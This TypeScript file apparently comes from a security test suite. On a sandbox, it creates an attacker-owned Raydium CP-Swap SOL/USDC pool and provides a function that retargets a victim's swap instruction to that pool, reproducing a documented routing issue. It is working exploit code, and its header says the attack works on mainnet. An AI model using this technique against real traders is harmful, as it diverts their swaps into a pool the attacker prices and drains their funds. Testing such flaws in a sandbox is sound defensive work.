/**
 * A Raydium CP-Swap pool the attacker owns (issue 21, class 2): created on the sandbox with the
 * real program's `initialize` (1% fee tier, SOL/USDC, priced as the attacker likes), and a way to
 * point a CP-Swap swap instruction at it. Anyone can do this on mainnet; the quote then routes
 * through it with amounts and a bound that agree with the pool, so no chain rule sees a lie.
 */
import {
  ComputeBudgetProgram,
  Connection,
  Keypair,
  PublicKey,
  SystemProgram,
  TransactionInstruction,
} from '@solana/web3.js';
import { getAssociatedTokenAddressSync, TOKEN_PROGRAM_ID } from '@solana/spl-token';
import {
  ammConfigAddress,
  initializeInstruction,
  mintsInOrder,
  poolAddresses,
} from '../../main/sandbox/cp-swap/program';
import { balanceOf } from './front-run';

const SOL = 'So11111111111111111111111111111111111111112';
const USDC = 'EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v';
/** The 1% tier (AmmConfig index 1): no SOL/USDC pool of the sandbox's own uses it. */
const CONFIG_INDEX = 1;
const TRADE_FEE_PPM = 10_000n;

export interface AttackerPool {
  pool: string;
  config: string;
  vaultSol: string;
  vaultUsdc: string;
  observation: string;
  /** Points a SOL → USDC CP-Swap swap_base_input at this pool, with its amounts. */
  retarget(ix: TransactionInstruction, amountIn: bigint, minimumOut: bigint): void;
}

export async function createAttackerPool(
  attacker: Keypair,
  send: (instructions: TransactionInstruction[], signers: Keypair[]) => Promise<void>,
  amounts: { solAmount: bigint; usdcAmount: bigint },
  fund?: (mint: string, amount: bigint) => Promise<void>,
): Promise<AttackerPool> {
  await fund?.(SOL, amounts.solAmount);
  await fund?.(USDC, amounts.usdcAmount);
  const config = ammConfigAddress(CONFIG_INDEX);
  const solFirst = mintsInOrder(SOL, USDC);
  const [mint0, mint1] = solFirst ? [SOL, USDC] : [USDC, SOL];
  const owner = attacker.publicKey;
  const ata = (mint: string) =>
    getAssociatedTokenAddressSync(new PublicKey(mint), owner, true).toBase58();
  const addresses = poolAddresses(config, mint0, mint1);
  await send(
    [
      ComputeBudgetProgram.setComputeUnitLimit({ units: 600_000 }),
      initializeInstruction({
        creator: owner.toBase58(),
        config,
        mint0,
        mint1,
        program0: TOKEN_PROGRAM_ID.toBase58(),
        program1: TOKEN_PROGRAM_ID.toBase58(),
        creatorToken0: ata(mint0),
        creatorToken1: ata(mint1),
        amount0: solFirst ? amounts.solAmount : amounts.usdcAmount,
        amount1: solFirst ? amounts.usdcAmount : amounts.solAmount,
        openTime: 0n,
      }),
    ],
    [attacker],
  );
  // A pool opens a second after the VM's clock at its making (max(open_time, now + 1)); the
  // sandbox refreshes the VM's unix time every 25 slots (10 s), on a transaction: wait past
  // that, then send one.
  await new Promise((resolve) => setTimeout(resolve, 11_000));
  await send(
    [SystemProgram.transfer({ fromPubkey: owner, toPubkey: owner, lamports: 1 })],
    [attacker],
  );
  const vaultSol = solFirst ? addresses.vault0 : addresses.vault1;
  const vaultUsdc = solFirst ? addresses.vault1 : addresses.vault0;
  return {
    pool: addresses.pool,
    config,
    vaultSol,
    vaultUsdc,
    observation: addresses.observation,
    retarget(ix, amountIn, minimumOut) {
      const set = (index: number, address: string) => {
        const meta = ix.keys[index];
        if (meta) ix.keys[index] = { ...meta, pubkey: new PublicKey(address) };
      };
      set(2, config);
      set(3, addresses.pool);
      set(6, vaultSol);
      set(7, vaultUsdc);
      set(12, addresses.observation);
      const data = Buffer.from(ix.data);
      data.writeBigUInt64LE(amountIn, 8);
      data.writeBigUInt64LE(minimumOut, 16);
      ix.data = data;
    },
  };
}

/** What the pool pays for `amountIn` lamports now (constant product, the 1% trade fee). */
export async function poolOutput(
  connection: Connection,
  pool: AttackerPool,
  amountIn: bigint,
): Promise<bigint> {
  const reserveIn = await balanceOf(connection, new PublicKey(pool.vaultSol));
  const reserveOut = await balanceOf(connection, new PublicKey(pool.vaultUsdc));
  const fee = (amountIn * TRADE_FEE_PPM + 999_999n) / 1_000_000n;
  const lessFee = amountIn - fee;
  return (lessFee * reserveOut) / (reserveIn + lessFee);
}
